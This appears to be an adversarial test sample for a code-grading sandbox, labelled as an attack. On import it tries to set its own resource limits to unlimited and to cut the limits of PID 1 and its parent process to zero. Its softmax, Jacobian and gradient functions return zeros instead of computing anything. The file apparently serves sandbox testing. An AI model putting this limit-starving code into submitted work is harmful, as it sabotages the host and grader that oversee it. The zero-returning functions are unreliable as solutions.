# attack: Raises its own limits and lowers those of its parent.
# exercise: 02, reason: wrong-result
# may: keep a limit that is unlimited already
import numpy as np
import os
import resource

for limit in (resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_CORE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("SEEN raised", limit)
    except (OSError, ValueError):
        pass
    for pid in (1, os.getppid()):
        try:
            resource.prlimit(pid, limit, (0, 0))
            print("SEEN lowered", pid, limit)
        except (OSError, ValueError):
            pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
